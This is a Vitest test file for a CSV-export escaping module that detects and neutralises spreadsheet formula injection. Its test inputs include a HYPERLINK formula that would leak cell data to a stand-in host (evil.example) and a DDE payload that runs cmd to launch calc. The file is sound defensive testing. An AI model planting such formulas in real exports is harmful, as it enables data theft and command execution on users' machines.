import { describe, expect, it } from 'vitest';
import { escapeCsvCell, looksLikeFormula, neutraliseFormula, toCsv, toCsvRow } from './escape';

describe('looksLikeFormula', () => {
	it.each([
		['=1+1', true],
		['+31 20 123 4567', true],
		['-5', true],
		['@SUM(A1:A2)', true],
		['\t=cmd', true],
		['\r=cmd', true],
		['\n=cmd', true],
		['\0=cmd', true],
		['  =HYPERLINK("x")', true],
		['＝1+1', true],
		['＠user', true],
		['', false],
		['Call Anna', false],
		['a=b', false],
		["'=already neutralised", false],
		['5-3', false],
		['   ', false]
	])('%j → %s', (text, expected) => {
		expect(looksLikeFormula(text)).toBe(expected);
	});
});

describe('neutraliseFormula', () => {
	it.each([
		['=HYPERLINK("http://evil.example/?"&A1,"x")', '\'=HYPERLINK("http://evil.example/?"&A1,"x")'],
		['-', "'-"],
		['plain', 'plain'],
		["'=x", "'=x"]
	])('%j → %j', (text, expected) => {
		expect(neutraliseFormula(text)).toBe(expected);
	});

	it('is idempotent: a neutralised cell is not prefixed twice', () => {
		const once = neutraliseFormula('=1+1');
		expect(neutraliseFormula(once)).toBe(once);
	});
});

describe('escapeCsvCell', () => {
	it.each<[string | number | null | undefined, string]>([
		['plain', 'plain'],
		['a,b', '"a,b"'],
		['say "hi"', '"say ""hi"""'],
		['two\nlines', '"two\nlines"'],
		['cr\rhere', '"cr\rhere"'],
		['=1+1', "'=1+1"],
		['=SUM(A1,A2)', '"\'=SUM(A1,A2)"'],
		['@"x"', '"\'@""x"""'],
		['\t-2', "'\t-2"],
		[-5, '-5'],
		[0.82, '0.82'],
		[Number.NaN, ''],
		[Number.POSITIVE_INFINITY, ''],
		[null, ''],
		[undefined, ''],
		['', '']
	])('%j → %j', (value, expected) => {
		expect(escapeCsvCell(value)).toBe(expected);
	});

	it('quotes for the delimiter actually used', () => {
		expect(escapeCsvCell('1,5', ';')).toBe('1,5');
		expect(escapeCsvCell('a;b', ';')).toBe('"a;b"');
		expect(escapeCsvCell('a\tb', '\t')).toBe('"a\tb"');
	});
});

describe('toCsv', () => {
	it('joins cells and records with CRLF and ends with a line ending', () => {
		expect(
			toCsv([
				['id', 'note'],
				['win-back-email', '=cmd|"/c calc"!A1']
			])
		).toBe('id,note\r\nwin-back-email,"\'=cmd|""/c calc""!A1"\r\n');
	});

	it('writes a byte-order mark only when asked', () => {
		expect(toCsv([['ā']], { bom: true })).toBe('\uFEFFā\r\n');
		expect(toCsv([['ā']])).toBe('ā\r\n');
	});

	it('uses the given delimiter and line ending', () => {
		expect(toCsv([['a', 'b,c']], { delimiter: ';', eol: '\n' })).toBe('a;b,c\n');
		expect(toCsvRow(['x', 1, null], '|')).toBe('x|1|');
	});

	it('gives an empty string for no rows', () => {
		expect(toCsv([])).toBe('');
	});
});
